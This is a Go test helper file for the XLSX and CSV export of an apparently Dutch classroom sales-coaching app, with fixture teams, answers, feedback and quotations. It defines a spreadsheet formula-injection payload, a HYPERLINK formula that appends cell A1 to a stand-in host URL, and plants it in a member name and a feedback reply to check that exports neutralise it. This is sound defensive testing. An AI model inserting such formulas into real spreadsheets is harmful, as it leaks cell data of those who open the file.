package export_test

import (
	"bytes"
	"encoding/csv"
	"fmt"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/xuri/excelize/v2"

	"verkoopcoach/internal/export"
	"verkoopcoach/internal/flow"
	"verkoopcoach/internal/quote"
	"verkoopcoach/prompts"
)

// Amsterdam is an hour ahead of the times that the fixtures are kept in.
var amsterdam = time.FixedZone("Europe/Amsterdam", 60*60)

// formula is what nobody may ever get to run.
const formula = `=HYPERLINK("http://voorbeeld.nl/?"&A1;"Klik hier")`

var gathered = time.Date(2026, 11, 23, 15, 30, 0, 0, amsterdam)

var loaded = sync.OnceValues(func() (flow.Checklists, error) { return prompts.Load(prompts.Embedded()) })

// class is a class of so many teams, each further than the one before and then
// from the start again.
func class(t testing.TB, language flow.Language, teams int) export.Class {
	t.Helper()
	checklists, err := loaded()
	if err != nil {
		t.Fatal(err)
	}
	c := export.Class{Name: "Klas 2b, R&D 'verkoop'", Language: language, At: gathered, Names: map[flow.MemberID]string{"secret-docent": "Mevr. Bakker"}}
	for i := range teams {
		c.Teams = append(c.Teams, team(checklists.In(language), i))
	}
	return c
}

// team is the i-th team of a class. The first has done nothing, the second has
// one answer, and so on until every step has one; the last of those left a step
// out and has others to look at again.
func team(list *flow.Checklist, i int) export.Team {
	steps := list.Steps()
	v := flow.View{
		Team:      flow.Team{ID: flow.TeamID(fmt.Sprint("t", i)), Name: fmt.Sprintf("Team %02d %s", i+1, [...]string{"Zwolle", "De Bijenkorf", "Fiets & Co", "007"}[i%4]), Language: list.Language},
		Checklist: list, Dossier: &flow.Dossier{},
	}
	x := export.Team{View: v, Members: members(i), Phases: map[flow.PhaseKey]export.Phase{}}
	for n, s := range steps[:i%(len(steps)+1)] {
		r := flow.Revision{
			Number: n + 1, Step: s.Key, Kind: flow.Answered, Author: x.Members[n%len(x.Members)].ID,
			At: time.Date(2026, 11, 1+n, 23, 30, 15, 0, time.UTC), Values: answerTo(s), Basis: basis(x.View, s),
		}
		if s.Optional {
			r.Kind, r.Values, r.Reason = flow.Skipped, nil, "Wij hebben nog geen concurrenten."
		}
		x.View.Dossier = x.View.Dossier.Apply(r)
		x.Assessments = append(x.Assessments, flow.Assessment{Step: s, Revision: r.Number, Critique: critique((n + i) % 4)})
	}
	if i%(len(steps)+1) == len(steps) {
		x.View.Dossier = x.View.Dossier.Apply(flow.Revision{Number: 90, Step: "segmenteren", Kind: flow.Answered, Author: "gone", At: gathered, Values: flow.Values{"oude-vraag": "Nieuw segment"}})
	}
	if i%5 == 1 {
		x.Attention = []string{"6 dagen stil", "over de deadline"}
		x.Phases[list.Phases[0].Key] = export.Phase{Deadline: "1 dec 2026", SignOff: "terug: waarom deze SWOT?"}
	}
	if i%4 == 1 {
		x.Feedback = feedback(list, x.Members)
	}
	if i%3 == 1 {
		x.Quotations = offers(i)
	}
	return x
}

func basis(v flow.View, s *flow.Step) flow.Basis {
	b := make(flow.Basis)
	for _, on := range s.BuildsOn {
		b[on] = v.Dossier.Text(on)
	}
	return b
}

func members(i int) []export.Member {
	last := time.Date(2026, 11, 20, 9, 15, 0, 0, time.UTC)
	return []export.Member{
		{ID: flow.MemberID(fmt.Sprint("secret-a", i)), Name: "Anna de Vries", Revisions: 12, Words: 1840, Last: last},
		{ID: flow.MemberID(fmt.Sprint("secret-b", i)), Revisions: 3, Words: 210, Last: last.AddDate(0, 0, -4)},
		{ID: flow.MemberID(fmt.Sprint("secret-c", i)), Name: formula},
	}
}

func answerTo(s *flow.Step) flow.Values {
	values := make(flow.Values)
	for i, f := range s.Fields {
		switch {
		case f.Kind == flow.KindChoice:
			values[f.Key] = f.Options[0].Value
		case i == 0 && len(s.Fields) > 1:
			values[f.Key] = "Wij kiezen voor jonge ouders in Zwolle, want die fietsen veel met hun kinderen.\n\n- bakfiets\n- aanhanger"
		default:
			values[f.Key] = "Omdat uit het CBS blijkt dat 38% van de gezinnen elke dag fietst; \"dat\" is veel."
		}
	}
	return values
}

func critique(level int) flow.Critique {
	c := flow.Critique{Level: flow.Grade(level)}
	if level < 2 {
		c.Flaws = []flow.Flaw{flow.FlawVague, flow.FlawUnsupported}
	}
	return c
}

// feedback is a thread about a step, and a remark about a phase that nobody answered.
func feedback(list *flow.Checklist, members []export.Member) []flow.Thread {
	phase := list.Phases[1]
	at := time.Date(2026, 11, 20, 23, 30, 15, 0, time.UTC)
	first := flow.Remark{ID: 1, Phase: phase.Key, Step: phase.Steps[0].Key, Side: flow.SideTeacher, By: "secret-docent", At: at, Text: "Hoe weten jullie dit?\nZet de bron erbij."}
	said := func(by flow.MemberID, side flow.Side, text string) flow.Remark {
		at = at.Add(time.Hour)
		return flow.Remark{Of: 1, Phase: phase.Key, Step: first.Step, Side: side, By: by, At: at, Text: text}
	}
	return []flow.Thread{
		{Remark: first, Responses: []flow.Remark{said(members[0].ID, flow.SideTeam, formula), said("secret-docent", flow.SideTeacher, "Ja, zo.")}},
		{Remark: flow.Remark{ID: 4, Phase: phase.Key, Side: flow.SideTeacher, By: "secret-other", At: gathered, Text: "Mooi opgebouwd."}},
	}
}

// offers are an expired offer, an accepted one and a draft that cannot be added.
func offers(i int) []quote.Kept {
	old := quote.New(quote.Number{Series: "OFF", Year: 2026, Serial: i + 1}, quote.Company{Name: "Fiets & Co"},
		quote.Customer{Name: "0612345678 BV", Kind: quote.Business}, quote.Date{Year: 2026, Month: 9, Day: 1})
	old.Lines = []quote.Line{{Description: "Bakfiets", Quantity: 3 * quote.One, Price: 1_234_50, VAT: quote.VAT21}}
	old.Status, old.Sent = quote.StatusSent, &quote.Event{By: "x", At: time.Date(2026, 9, 1, 22, 30, 0, 0, time.UTC)}
	agreed := old
	agreed.Number.Serial, agreed.Version, agreed.Status = i+2, 2, quote.StatusAccepted
	agreed.Accepted = &quote.Event{By: "x", At: gathered}
	draft := old
	draft.Number.Serial, draft.Status, draft.Sent, draft.Lines = i+3, quote.StatusDraft, nil, []quote.Line{{VAT: "?"}}
	draft.Date = quote.Date{}
	return []quote.Kept{{Quotation: old}, {Quotation: agreed}, {Quotation: draft}}
}

// one is a class with one team whose only answer says the words.
func one(t testing.TB, words string) export.Class {
	c := class(t, flow.Dutch, 2)
	c.Teams = c.Teams[1:]
	step := c.Teams[0].View.Checklist.Steps()[0]
	v := &c.Teams[0].View
	v.Dossier = v.Dossier.Apply(flow.Revision{Number: 2, Step: step.Key, Kind: flow.Answered, Values: flow.Values{step.Fields[0].Key: words}})
	return c
}

// answerCell is where the only answer of one stands.
const (
	answerSheet  = "Antwoorden"
	answerCell   = "E2"
	answerColumn = 4
)

func workbook(t testing.TB, c export.Class) []byte {
	t.Helper()
	var b bytes.Buffer
	if err := export.WriteXLSX(&b, c); err != nil {
		t.Fatal(err)
	}
	return b.Bytes()
}

func opened(t testing.TB, data []byte) *excelize.File {
	t.Helper()
	f, err := excelize.OpenReader(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	return f
}

func csvOf(t testing.TB, c export.Class, s export.Sheet) string {
	t.Helper()
	var b bytes.Buffer
	if err := export.WriteCSV(&b, c, s); err != nil {
		t.Fatal(err)
	}
	return b.String()
}

// records reads CSV as strictly as the standard library does.
func records(t testing.TB, text string) [][]string {
	t.Helper()
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(text, "\uFEFF")))
	r.Comma = ';'
	all, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return all
}
